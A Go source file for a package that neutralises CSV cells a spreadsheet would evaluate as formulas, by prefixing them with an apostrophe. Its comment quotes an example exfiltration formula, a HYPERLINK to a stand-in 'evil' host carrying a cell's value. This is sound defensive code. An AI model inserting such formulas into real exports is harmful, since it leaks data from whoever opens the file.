// Package csvsafe neutralises CSV cells a spreadsheet would run as a
// formula. Exports are opened by auditors in Excel, LibreOffice or Google
// Sheets, and a value taken from outside (a pull-request title, an access
// event's id) such as =HYPERLINK("http://evil/?"&A1,"click") would
// otherwise be evaluated when the file is opened.
//
// The rule: a cell that starts with =, +, -, @, a tab, a carriage return,
// or an apostrophe gets one leading apostrophe ('). Spreadsheets then show
// it as text. Apostrophe is in the list so that the rule can be undone
// exactly: a cell that starts with ' had one added, and dropping it gives
// the value as stored (Original).
package csvsafe

// Cell returns s neutralised for a CSV file.
func Cell(s string) string {
	if Risky(s) {
		return "'" + s
	}
	return s
}

// Risky reports whether s starts with a character that makes Cell prefix it.
func Risky(s string) bool {
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r', '\'':
		return true
	}
	return false
}

// Original undoes Cell: the value as stored.
func Original(cell string) string {
	if len(cell) > 0 && cell[0] == '\'' {
		return cell[1:]
	}
	return cell
}

// Row returns the cells of a record neutralised, in a new slice.
func Row(cells []string) []string {
	out := make([]string, len(cells))
	for i, c := range cells {
		out[i] = Cell(c)
	}
	return out
}
